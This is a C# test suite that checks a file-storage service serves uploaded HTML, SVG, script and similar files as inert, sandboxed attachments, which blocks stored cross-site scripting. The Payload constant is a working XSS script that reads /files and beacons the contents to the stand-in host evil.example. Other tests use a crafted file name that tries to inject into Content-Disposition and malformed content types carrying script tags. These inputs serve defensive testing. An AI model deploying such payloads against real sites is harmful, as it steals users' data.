using System.Net;
using System.Net.Http.Json;

namespace Tenancy.Security.Tests.Storage;

/// <summary>
/// Issue 7 item 3: an uploaded file is served back as active content on the application's origin (stored XSS), through
/// /files and through presigned URLs. Whatever type the uploader declares, the response is inert: nosniff and a CSP
/// sandbox always, and anything not on the inert allow-list is an octet-stream attachment.
/// </summary>
public abstract class StoredXssAttackTests : IAsyncLifetime
{
    private const string Payload = "<html><body><script>fetch('/files').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))</script></body></html>";

    private StorageHost? _host;

    protected abstract StorageBackend Backend { get; }

    private StorageHost Host => _host!;

    public async Task InitializeAsync() => _host = await StorageHost.StartAsync(Backend);

    public async Task DisposeAsync()
    {
        if (_host is not null)
        {
            await _host.DisposeAsync();
        }
    }

    public static TheoryData<string, string?> ActiveUploads => new()
    {
        { "page.html", "text/html" },
        { "page2.htm", "TEXT/HTML; charset=utf-8" },
        { "doc.xhtml", "application/xhtml+xml" },
        { "logo.svg", "image/svg+xml" },
        { "feed.xml", "application/xml" },
        { "data.xml", "text/xml" },
        { "style.xsl", "text/xsl" },
        { "app.js", "text/javascript" },
        { "app.mjs", "application/javascript; charset=utf-8" },
        { "legacy.js", "application/x-javascript" },
        { "theme.css", "text/css" },
        { "formula.mml", "application/mathml+xml" },
        { "movie.swf", "application/x-shockwave-flash" },
        { "thing.bin", "application/x-made-up" },
        { "no-type", null },
    };

    [Theory]
    [MemberData(nameof(ActiveUploads))]
    public async Task Uploaded_active_content_is_downloaded_as_an_inert_attachment_never_rendered(string key, string? contentType)
    {
        using (var put = await Host.SendAsync(HttpMethod.Put, $"/files/{key}", StorageHost.Acme, Payload, contentType))
        {
            put.StatusCode.Should().Be(HttpStatusCode.Created);
        }

        foreach (var method in new[] { HttpMethod.Get, HttpMethod.Head })
        {
            using var response = await Host.SendAsync(method, $"/files/{key}", StorageHost.Acme);
            response.StatusCode.Should().Be(HttpStatusCode.OK, because: $"{method} {key}");
            AssertInertAttachment(response, key);
        }
    }

    [Theory]
    [MemberData(nameof(ActiveUploads))]
    public async Task A_presigned_download_of_active_content_is_an_inert_attachment(string key, string? contentType)
    {
        (await Host.SendAsync(HttpMethod.Put, $"/files/{key}", StorageHost.Acme, Payload, contentType)).Dispose();
        var url = await PresignAsync(key);

        if (Backend == StorageBackend.LocalDisk)
        {
            // Served by the sample, without authentication: the same headers as /files.
            using var response = await Host.SendAsync(HttpMethod.Get, url.PathAndQuery, tenant: null);
            response.StatusCode.Should().Be(HttpStatusCode.OK);
            AssertInertAttachment(response, key);
            return;
        }

        // S3 signs the response overrides into the URL, so the bucket answers with them (AWS applies them; the test
        // server ignores overrides but returns the Content-Disposition stored at upload, also from the policy).
        var query = System.Web.HttpUtility.ParseQueryString(url.Query);
        query["response-content-type"].Should().Be("application/octet-stream");
        query["response-content-disposition"].Should().StartWith("attachment");
        using var http = new HttpClient();
        using var direct = await http.GetAsync(url);
        direct.StatusCode.Should().Be(HttpStatusCode.OK, "the overrides are part of the signature");
        direct.Header("Content-Disposition").Should().StartWith("attachment");
    }

    [Fact]
    public async Task Html_declared_as_an_image_is_not_sniffed_into_html()
    {
        (await Host.SendAsync(HttpMethod.Put, "/files/avatar.png", StorageHost.Acme, Payload, "image/png")).Dispose();

        using var response = await Host.SendAsync(HttpMethod.Get, "/files/avatar.png", StorageHost.Acme);
        response.Header("Content-Type").Should().Be("image/png");
        response.Header("X-Content-Type-Options").Should().Be("nosniff");
        response.Header("Content-Security-Policy").Should().Contain("sandbox").And.Contain("default-src 'none'");
    }

    [Fact]
    public async Task Inert_images_and_plain_text_render_inline_but_stay_nosniff_and_sandboxed()
    {
        (await Host.SendAsync(HttpMethod.Put, "/files/photo.jpg", StorageHost.Acme, "jpeg bytes", "image/jpeg")).Dispose();
        (await Host.SendAsync(HttpMethod.Put, "/files/notes.txt", StorageHost.Acme, "hello", "text/plain; charset=iso-8859-1; x=\"<script>\"")).Dispose();

        using var photo = await Host.SendAsync(HttpMethod.Get, "/files/photo.jpg", StorageHost.Acme);
        photo.Header("Content-Type").Should().Be("image/jpeg");
        photo.Content.Headers.ContentDisposition!.DispositionType.Should().Be("inline");
        photo.Header("X-Content-Type-Options").Should().Be("nosniff");

        using var notes = await Host.SendAsync(HttpMethod.Get, "/files/notes.txt", StorageHost.Acme);
        notes.Header("Content-Type").Should().Be("text/plain; charset=iso-8859-1", "only a plain charset parameter survives");
        notes.Content.Headers.ContentDisposition!.DispositionType.Should().Be("inline");
        notes.Header("Content-Security-Policy").Should().Contain("sandbox");
    }

    [Fact]
    public async Task A_crafted_file_name_cannot_break_out_of_content_disposition()
    {
        const string key = "a\"; filename=\"evil.html\"; x=\"y.html";
        using (var put = await Host.SendAsync(HttpMethod.Put, "/files/" + Uri.EscapeDataString(key), StorageHost.Acme, Payload, "text/html"))
        {
            put.StatusCode.Should().Be(HttpStatusCode.Created);
        }

        using var response = await Host.SendAsync(HttpMethod.Get, "/files/" + Uri.EscapeDataString(key), StorageHost.Acme);
        var disposition = response.Content.Headers.ContentDisposition!;
        disposition.DispositionType.Should().Be("attachment");
        disposition.FileNameStar.Should().Be(key, "the exact name travels percent-encoded");
        disposition.FileName!.Trim('"').Should().NotContain("\"");
        disposition.Parameters.Select(p => p.Name.ToLowerInvariant()).Should().OnlyHaveUniqueItems();
    }

    [Theory]
    [InlineData("text/html; x=<script>")]
    [InlineData("text/html, image/png")]
    [InlineData("text/html;;")]
    [InlineData("text/\"html\"")]
    [InlineData("image/png; name=\"unterminated")]
    public async Task A_malformed_content_type_is_refused_with_400_and_nothing_is_stored(string contentType)
    {
        using var put = await Host.SendAsync(HttpMethod.Put, "/files/x.bin", StorageHost.Acme, Payload, contentType);
        put.StatusCode.Should().Be(HttpStatusCode.BadRequest);
        (await Host.PhysicalKeysAsync()).Should().BeEmpty();
    }

    private async Task<Uri> PresignAsync(string key)
    {
        using var presign = await Host.SendAsync(HttpMethod.Post, $"/files-presign/{key}?method=GET&seconds=300", StorageHost.Acme);
        presign.StatusCode.Should().Be(HttpStatusCode.OK);
        return (await presign.Content.ReadFromJsonAsync<PresignedUrl>())!.Url;
    }

    private static void AssertInertAttachment(HttpResponseMessage response, string key)
    {
        response.Header("Content-Type").Should().Be("application/octet-stream", because: key);
        response.Content.Headers.ContentDisposition!.DispositionType.Should().Be("attachment", because: key);
        response.Content.Headers.ContentDisposition.FileNameStar.Should().Be(key);
        response.Header("X-Content-Type-Options").Should().Be("nosniff");
        response.Header("Content-Security-Policy").Should().Contain("sandbox").And.Contain("default-src 'none'");
    }

    private sealed record PresignedUrl(Uri Url);

    public sealed class OnLocalDisk : StoredXssAttackTests
    {
        protected override StorageBackend Backend => StorageBackend.LocalDisk;
    }

    public sealed class OnS3 : StoredXssAttackTests
    {
        protected override StorageBackend Backend => StorageBackend.S3;
    }
}
